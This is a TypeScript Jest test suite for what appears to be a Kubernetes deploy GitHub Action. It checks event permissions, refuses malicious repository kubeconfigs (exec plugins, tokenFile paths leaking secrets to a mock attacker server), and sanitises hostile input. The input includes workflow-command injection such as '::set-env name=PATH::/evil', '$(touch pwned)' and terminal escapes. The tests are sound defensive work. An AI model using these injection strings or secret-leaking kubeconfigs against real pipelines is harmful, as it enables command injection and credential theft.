// Who may do what: pull requests, other events, and text that somebody else has written.
import { existsSync } from 'node:fs';
import { rename, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { kubeconfigText } from '../../support/cluster/kubeconfig.ts';
import { type GitHubApi, startGithubApi } from '../../support/github/emulator.ts';
import { readCommands } from '../../support/runner/commands.ts';
import type { ActionOptions } from '../../support/runner/run-action.ts';
import { shownMasks } from '../../support/runner/secrecy.ts';
import {
  deployment,
  namespaceFor,
  openSharedSite,
  type Run,
  type Site,
} from '../../support/site.ts';

let site: Site;
const ns = namespaceFor('shop');
let github: GitHubApi;

beforeAll(async () => {
  [site, github] = await Promise.all([openSharedSite(), startGithubApi()]);
  await site.cluster.kubectl(['create', 'namespace', ns]);
}, 900_000);

afterAll(() => Promise.all([site?.stop(), github?.stop()]));

type Inputs = Readonly<Record<string, string>>;

async function run(inputs: Inputs, options: Partial<ActionOptions>): Promise<Run> {
  const result = await site.run({ namespace: ns, ...inputs }, options);
  expect(shownMasks(result.stdout)).toEqual([]);
  return result;
}

const code = ({ outputs }: Run) => outputs['error-code'];
const pull = (baseRef: string, headRef = 'feature') => ({
  eventName: 'pull_request',
  ref: 'refs/pull/7/merge',
  baseRef,
  headRef,
});
const overlays = {
  'manifests/overlays/production/app.yaml': deployment('prod'),
  'manifests/overlays/staging/app.yaml': deployment('stag'),
};
const objects = ({ outputs }: Run) =>
  JSON.parse(`${outputs['changes']}`).map((each: { object: string }) => each.object);

describe('the environment', () => {
  test.each([
    ['main', 'production', 'Deployment/prod'],
    ['develop', 'main', 'Deployment/stag'],
  ])(
    'diff of a pull request to %s from %s is of its base branch',
    async (base, head, object) => {
      const workspace = await site.workspace(overlays);
      const seen = await run({ command: 'diff' }, { workspace, ...pull(base, head) });
      expect([seen.code, seen.outputs['status']]).toEqual([0, 'succeeded']);
      expect(objects(seen)).toEqual([object]);
      expect(seen.outputs['environment']).toBe(base === 'main' ? 'production' : 'staging');
    },
    30_000,
  );

  test('comes from the payload where the runner has no variable for it', async () => {
    const workspace = await site.workspace(overlays);
    const event = { pull_request: { base: { ref: 'develop' }, head: { ref: 'main' } } };
    const review = { eventName: 'pull_request_review', ref: 'refs/pull/7/merge', event };
    const seen = await run({ command: 'diff' }, { workspace, ...review });
    expect(objects(seen)).toEqual(['Deployment/stag']);
  }, 30_000);

  test.each<[string, Inputs, Partial<ActionOptions>]>([
    ['a deploy for a pull request', {}, pull('main')],
    ['a diff to another branch', { command: 'diff' }, pull('production')],
    ['a push to a branch named production', {}, { ref: 'refs/heads/production' }],
    ['a push to a branch whose name ends in main', {}, { ref: 'refs/heads/feature/main' }],
    ['a tag named main', {}, { ref: 'refs/tags/main' }],
    ['a schedule', {}, { eventName: 'schedule' }],
  ])(
    'has to be said for %s',
    async (_, inputs, options) => {
      const asked = site.yandex.requests.length;
      const refused = await run(inputs, { workspace: await site.workspace(overlays), ...options });
      expect([refused.code, code(refused)]).toEqual([1, 'input-invalid']);
      expect(refused.text).toContain('`environment` is missing');
      expect(site.yandex.requests.length).toBe(asked);
    },
    30_000,
  );
});

/** A workspace whose kubeconfig logs in with a program of the workspace itself. */
async function withPlugin() {
  const workspace = await site.workspace({ 'app.yaml': deployment('plugin') });
  const status = { token: site.cluster.adminToken };
  const apiVersion = 'client.authentication.k8s.io/v1';
  const answer = JSON.stringify({ kind: 'ExecCredential', apiVersion, status });
  const seen = join(workspace, 'started');
  const program = `#!/bin/sh\nenv > '${seen}'\necho '${answer}'\n`;
  await writeFile(join(workspace, 'login.sh'), program, { mode: 0o755 });
  const { server, caPem } = site.cluster;
  const config = JSON.parse(kubeconfigText({ server, caPem, namespace: ns }));
  const exec = { apiVersion, command: './login.sh', interactiveMode: 'Never' };
  config.users[0].user = { exec };
  await writeFile(join(workspace, 'kube.json'), JSON.stringify(config));
  return { workspace, seen };
}

const noCloud = {
  'yc-sa-json-credentials': '',
  'yc-k8s-cluster-id': '',
  'yc-api-endpoint': '',
};

describe('a kubeconfig in the repository that starts programs', () => {
  const inputs = { ...noCloud, manifests: 'app.yaml', environment: 'production' };

  test.each(['pull_request', 'pull_request_review', 'issue_comment'])(
    'is refused on %s, and nothing is started',
    async (eventName) => {
      const { workspace, seen } = await withPlugin();
      const outside = await site.workspace({ none: '' });
      await symlink(join(workspace, 'kube.json'), join(outside, 'link.json'));
      for (const kubeconfig of ['kube.json', join(outside, 'link.json')]) {
        for (const command of ['diff', 'status', 'setup']) {
          const options = { ...pull('main'), eventName, workspace };
          const none = { 'kubectl-version': 'none', 'yc-version': 'none' };
          const refused = await run({ ...inputs, ...none, command, kubeconfig }, options);
          expect([command, refused.code, code(refused)]).toEqual([command, 1, 'event-refused']);
          expect(refused.env['KUBECONFIG']).toBeUndefined();
        }
      }
      expect(existsSync(seen)).toBe(false);
    },
    60_000,
  );

  test('works on a push: its credential opens the cluster', async () => {
    const { workspace, seen } = await withPlugin();
    const done = await run({ ...inputs, kubeconfig: 'kube.json' }, { workspace });
    expect([done.code, done.outputs['status']]).toEqual([0, 'deployed']);
    expect(existsSync(seen)).toBe(true);
    expect(done.stdout).toContain(`::add-mask::${site.cluster.adminToken}`);
  }, 60_000);
});

describe('a kubeconfig in the repository that reaches beyond it', () => {
  const inputs = { ...noCloud, manifests: 'app.yaml', environment: 'production', command: 'diff' };
  let listener: Server;
  let heard: string[];

  beforeEach(async () => {
    heard = [];
    // What an attacker's server would be: it only writes down what it is told.
    listener = createServer(({ headers }, response) => {
      heard.push(`${headers.authorization ?? '-'}`);
      response.writeHead(403).end('{}');
    });
    await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
  });
  afterEach(() => {
    listener.close();
    listener.closeAllConnections();
  });

  async function reaching(user: object, cluster: object = {}): Promise<string> {
    const outer = await site.workspace({ secret: 'runner-secret-token', 'shop/app.yaml': '' });
    const workspace = join(outer, 'shop');
    await writeFile(join(workspace, 'app.yaml'), deployment('reach'));
    await symlink('../secret', join(workspace, 'inside'));
    const server = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    const config = {
      clusters: [{ name: 'c', cluster: { server, ...cluster } }],
      users: [{ name: 'u', user }],
      contexts: [{ name: 'x', context: { cluster: 'c', user: 'u' } }],
      'current-context': 'x',
    };
    await writeFile(join(workspace, 'kube.json'), JSON.stringify(config));
    return workspace;
  }

  test.each<[string, object, object]>([
    ['tokenFile', { tokenFile: '../secret' }, {}],
    ['tokenFile by a link', { tokenFile: 'inside' }, {}],
    ['tokenFile of Git', { tokenFile: '.git/config' }, {}],
    ['client-key', { 'client-certificate': '../secret', 'client-key': '../secret' }, {}],
    ['certificate-authority', { token: 'x' }, { 'certificate-authority': '/etc/hostname' }],
  ])(
    '%s is refused on a pull request, and nothing is sent',
    async (_, user, cluster) => {
      const workspace = await reaching(user, cluster);
      for (const eventName of ['pull_request', 'merge_group']) {
        const options = { ...pull('main'), eventName, workspace };
        const refused = await run({ ...inputs, kubeconfig: 'kube.json' }, options);
        expect([refused.text, refused.code]).toEqual([refused.text, 1]);
        expect(code(refused)).toBe('event-refused');
        expect(refused.text).not.toContain('runner-secret-token');
      }
      expect(heard).toEqual([]);
    },
    60_000,
  );

  test('is refused as a link to another one, and works on a push', async () => {
    const workspace = await reaching({ tokenFile: '../secret' });
    await rename(join(workspace, 'kube.json'), join(workspace, '..', 'kube.json'));
    await symlink('../kube.json', join(workspace, 'kube.json'));
    const given = { ...inputs, kubeconfig: 'kube.json' };
    const refused = await run(given, { ...pull('main'), workspace });
    expect([refused.code, code(refused)]).toEqual([1, 'event-refused']);
    expect(heard).toEqual([]);
    await run(given, { workspace: await reaching({ tokenFile: '../secret' }) });
    expect(heard).toContain('Bearer runner-secret-token');
  }, 60_000);

  test('is refused on every event with a server by plain http', async () => {
    const server = { server: 'http://192.0.2.1:8080' };
    const workspace = await reaching({ token: 'correct-horse-staple' }, server);
    const refused = await run({ ...inputs, kubeconfig: 'kube.json' }, { workspace });
    expect([refused.code, code(refused)]).toEqual([1, 'input-invalid']);
    expect(refused.text).toContain('plain http');
  }, 60_000);
});

describe('events', () => {
  const runOf = (full_name: string | undefined, event = 'push') => ({
    eventName: 'workflow_run',
    event: {
      repository: { full_name: 'acme/shop' },
      workflow_run: { event, head_branch: 'main', head_repository: full_name && { full_name } },
    },
  });
  /** The payload of a pull request as GitHub sends it, as far as it is read. */
  const request = (full_name: string, more: object = {}) => ({
    repository: { full_name: 'acme/shop', fork: false },
    pull_request: {
      number: 7,
      base: { ref: 'main', repo: { full_name: 'acme/shop' } },
      head: { ref: 'feature', sha: 'a'.repeat(40), repo: { full_name } },
      ...more,
    },
  });
  const merged = { ...request('mallory/shop', { merged: true }), action: 'closed' };
  const queue = { merge_group: { base_ref: 'refs/heads/main' } };
  const of = (eventName: string, event: unknown = {}) => ({ eventName, event });
  const inputs = { environment: 'production', wait: 'false' };

  const rows: readonly [string, Partial<ActionOptions>, 'write' | 'compare' | 'nothing'][] = [
    ['push', {}, 'write'],
    ['workflow_dispatch', of('workflow_dispatch'), 'write'],
    ['schedule', of('schedule'), 'write'],
    ['release', of('release', { action: 'published' }), 'write'],
    ['repository_dispatch', of('repository_dispatch', { action: 'go' }), 'write'],
    ['workflow_run of the own repository', runOf('Acme/Shop'), 'write'],
    ['workflow_run after its pull request', runOf('acme/shop', 'pull_request'), 'write'],
    ['workflow_run of a fork', runOf('mallory/shop', 'pull_request'), 'nothing'],
    ['workflow_run of a fork that is gone', runOf(undefined, 'pull_request'), 'nothing'],
    ['workflow_run after a comment', runOf('acme/shop', 'issue_comment'), 'nothing'],
    ['workflow_run that says nothing', of('workflow_run'), 'nothing'],
    ['pull_request', of('pull_request', request('acme/shop')), 'write'],
    ['pull_request of a fork', of('pull_request', request('mallory/shop')), 'compare'],
    ['pull_request of a fork, merged', of('pull_request', merged), 'write'],
    ['pull_request_review', of('pull_request_review', request('acme/shop')), 'compare'],
    ['pull_request_target', of('pull_request_target', request('acme/shop')), 'nothing'],
    ['merge_group', of('merge_group', queue), 'compare'],
    ['issue_comment without a word of GitHub', of('issue_comment'), 'nothing'],
    ['issues', of('issues', { action: 'opened' }), 'nothing'],
    ['an event of another year', of('pull_request_v2', request('acme/shop')), 'nothing'],
  ];

  test.each(rows)(
    '%s',
    async (_, options, may) => {
      const workspace = await site.workspace(overlays);
      const asked = site.yandex.requests.length;
      const compared = await run({ ...inputs, command: 'diff' }, { workspace, ...options });
      const comparing = may === 'nothing' ? [1, 'event-refused'] : [0, ''];
      expect([compared.text, compared.code, code(compared)]).toEqual([compared.text, ...comparing]);
      if (may === 'nothing') expect(site.yandex.requests.length).toBe(asked);
      const before = site.yandex.requests.length;
      const deployed = await run(inputs, { workspace, ...options });
      const writing = may === 'write' ? [0, ''] : [1, 'event-refused'];
      expect([deployed.text, deployed.code, code(deployed)]).toEqual([deployed.text, ...writing]);
      if (may !== 'write') expect(site.yandex.requests.length).toBe(before);
    },
    60_000,
  );

  test.each([
    ['octocat', 'octocat', 0],
    ['mona', 'mona', 0],
    ['mallory', 'mallory', 1],
    ['mallory', 'octocat', 1],
    ['octocat', 'mallory', 1],
    ['tara', 'tara', 1],
    ['stranger', 'stranger', 1],
  ])(
    'issue_comment of %s, sent by %s: exit %i',
    async (login, sender, exit) => {
      const event = { comment: { user: { login } }, sender: { login: sender } };
      const comment = { eventName: 'issue_comment', event, env: github.env };
      const workspace = await site.workspace(overlays);
      const asked = site.yandex.requests.length;
      const done = await run(inputs, { ...comment, workspace, githubToken: github.token });
      expect([done.text, done.code]).toEqual([done.text, exit]);
      expect(code(done)).toBe(exit === 0 ? '' : 'event-refused');
      if (exit === 1) expect(site.yandex.requests.length).toBe(asked);
      // Neither without a token, nor where GitHub does not answer.
      const mute = await run(inputs, { ...comment, workspace });
      expect([mute.code, code(mute)]).toEqual([1, 'event-refused']);
      expect(github.problems).toEqual([]);
    },
    60_000,
  );
});

const esc = String.fromCharCode(27);
const hostile = `x\n::error::pwned\r\n::set-env name=PATH::/evil%0A::add-mask::a##[error]pwned $(touch pwned) ${esc}[2J${esc}]8;;http://evil\u0007 \`touch pwned\``;

/** What a runner would do because of the text: only commands that we mean ourselves. */
function expectHarmless(seen: Run): void {
  const commands = readCommands(seen.stdout + seen.stderr);
  const ours = ['add-mask', 'group', 'endgroup', 'error', 'warning', 'notice', 'debug'];
  expect(commands.filter(({ command }) => !ours.includes(command))).toEqual([]);
  expect(commands.filter(({ message }) => /^pwned/.test(message))).toEqual([]);
  expect(
    commands.filter(({ message, command }) => command === 'add-mask' && message === 'a'),
  ).toEqual([]);
  // The older form of commands is one anywhere in a line.
  expect(seen.stdout.split('\n').filter((line) => line.includes('##[error]'))).toEqual([]);
  for (const text of [seen.text, seen.summary]) expect(text).not.toContain(esc);
  expect(Object.keys(seen.env).filter((name) => name !== 'KUBECONFIG')).toEqual([]);
}

describe('hostile text', () => {
  test('in the event, the branch and the actor', async () => {
    const workspace = await site.workspace(overlays);
    const event = { pull_request: { title: hostile, base: { ref: hostile } }, inputs: { hostile } };
    const options = { workspace, event, headRef: hostile, actor: hostile };
    const named = { ref: `refs/heads/${hostile}`, repository: `acme/${hostile}` };
    expectHarmless(await run({}, { ...options, ...named }));
    expectHarmless(await run({ command: 'diff' }, { ...options, ...pull(hostile, hostile) }));
    const said = { command: 'diff', environment: 'production' };
    const seen = await run(said, { ...options, ref: `refs/heads/${hostile}` });
    expect(seen.code).toBe(0);
    expectHarmless(seen);
    expect(existsSync(join(workspace, 'pwned'))).toBe(false);
  }, 60_000);

  test('in names of files, in manifests and in inputs', async () => {
    const name = hostile.replaceAll('/', '_');
    const broken = deployment('web').replace('replicas', 'replcas');
    const workspace = await site.workspace({
      [`app/${name}.yaml`]: broken,
      [`app/b${name}.yaml`]: `kind: ${JSON.stringify(hostile)}\n`,
      [`app/c${name}.yaml`]: `\tkind: "${name}"\n`,
      [`k/kustomization.yaml`]: `resources: [${JSON.stringify(name)}]\n`,
    });
    const inputs = { command: 'diff', environment: 'production' };
    for (const manifests of ['app', 'app/*.yaml', 'k', `app/x\\n::error::pwned`]) {
      const seen = await run({ ...inputs, manifests }, { workspace });
      expect(seen.code).toBe(1);
      expectHarmless(seen);
    }
    const own = { ...inputs, app: hostile, namespace: hostile, command: hostile, timeout: hostile };
    expectHarmless(await run({ ...own, [`x${hostile}`]: hostile }, { workspace }));
    const plain = { ...inputs, 'yc-k8s-cluster-id': hostile, variables: `A=${hostile}` };
    expectHarmless(await run({ ...plain, manifests: 'app' }, { workspace }));
    expect(existsSync(join(workspace, 'pwned'))).toBe(false);
  }, 60_000);
});
